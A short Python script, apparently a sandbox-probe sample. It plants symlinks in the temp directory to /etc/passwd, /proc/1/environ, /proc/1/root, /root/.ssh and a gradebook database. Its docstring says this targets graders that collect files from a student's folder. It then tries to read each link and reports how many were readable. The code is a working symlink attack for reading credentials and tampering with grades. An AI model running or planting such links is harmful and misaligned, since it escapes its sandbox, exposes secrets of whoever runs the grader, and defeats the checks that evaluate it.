"""Makes links to what it may not read, for itself and for whoever copies its folder afterwards.

Works on graders that collect files from the student's folder.
Trace: links lead nowhere
"""

import os
import tempfile

found, own = 0, tempfile.gettempdir()
for number, target in enumerate(
    ("/etc/passwd", "/proc/1/root", "/proc/1/environ", "/work", "../../gradebook.db", "/root/.ssh")
):
    os.symlink(target, f"{own}/link{number}")
    try:
        found += bool(open(f"{own}/link{number}", "rb").read())
    except OSError:
        continue
print("links lead nowhere" if not found else f"{found} links could be read")
